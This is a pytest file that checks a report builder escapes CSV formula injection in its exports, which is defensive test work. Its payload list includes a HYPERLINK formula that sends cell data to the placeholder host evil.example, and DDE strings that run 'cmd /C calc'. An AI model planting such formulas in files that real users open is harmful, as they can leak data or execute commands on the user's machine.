"""Issue 10, item 9: a provider value such as `=HYPERLINK(...)` must not become a formula when a
report's CSV is opened in a spreadsheet, while the Parquet files keep the exact values.

OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection): a cell beginning with `=`,
`+`, `-`, `@`, tab (0x09) or carriage return (0x0D) is prefixed with a single quote, and cells are
quoted with embedded double quotes doubled."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from bench.report_bench import generate_lake
from saaslens.reports.build import build_report

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
PAYLOADS = {
    1: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    2: "+1+cmd|' /C calc'!A0",
    3: "-5",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "\t=1+1",
    6: "\r=1+1",
    7: "plain text",
    8: "a=b, not at the start",
    9: 'quote " inside',
}
DANGEROUS = {1, 2, 3, 4, 5, 6}


@pytest.fixture(scope="module")
def report(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("csv-injection")
    lake = root / "lake"
    generate_lake(lake, [("okta", "hq")], accounts_per_instance=20, events_per_instance=50, now=NOW)
    findings = root / "findings"
    findings.mkdir()
    values = ", ".join(f"({i}, '{text.replace(chr(39), chr(39) * 2)}')" for i, text in PAYLOADS.items())
    values = values.replace("'\t", "chr(9) || '").replace("'\r", "chr(13) || '")
    (findings / "payloads.sql").write_text(
        "-- title: Payloads\n-- description: Provider text shaped like spreadsheet formulas.\n"
        "-- severity: info\n-- key: app, instance, account_id\n"
        "select a.app, a.instance, a.account_id, p.i, -p.i as negative, p.payload, [p.payload, 'x'] as listed\n"
        "from (select app, instance, account_id, row_number() over (order by account_id) as i from accounts) a\n"
        f"join (values {values}) p(i, payload) using (i)\norder by p.i\n"
    )
    return build_report(lake, out_dir=root / "out", now=NOW, findings_dir=findings).directory


def test_every_dangerous_leading_character_is_neutralised_in_the_csv(report):
    with open(report / "payloads.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [int(r["i"]) for r in rows] == list(PAYLOADS)
    for row in rows:
        original = PAYLOADS[int(row["i"])]
        expected = "'" + original if int(row["i"]) in DANGEROUS else original
        assert row["payload"] == expected, row
        assert row["listed"] == expected + "; x"  # a list column is text in the CSV: neutralised too
        assert row["negative"] == str(-int(row["i"]))  # numbers stay numbers


def test_the_parquet_keeps_the_exact_values(report):
    table = pq.read_table(report / "payloads.parquet")
    assert table.column("payload").to_pylist() == list(PAYLOADS.values())
    assert table.column("listed").to_pylist() == [[text, "x"] for text in PAYLOADS.values()]
    assert pa.types.is_integer(table.schema.field("negative").type)


def test_the_csv_cells_are_quoted(report):
    text = (report / "payloads.csv").read_text(encoding="utf-8")
    assert '"quote "" inside"' in text  # embedded double quotes doubled inside a quoted cell
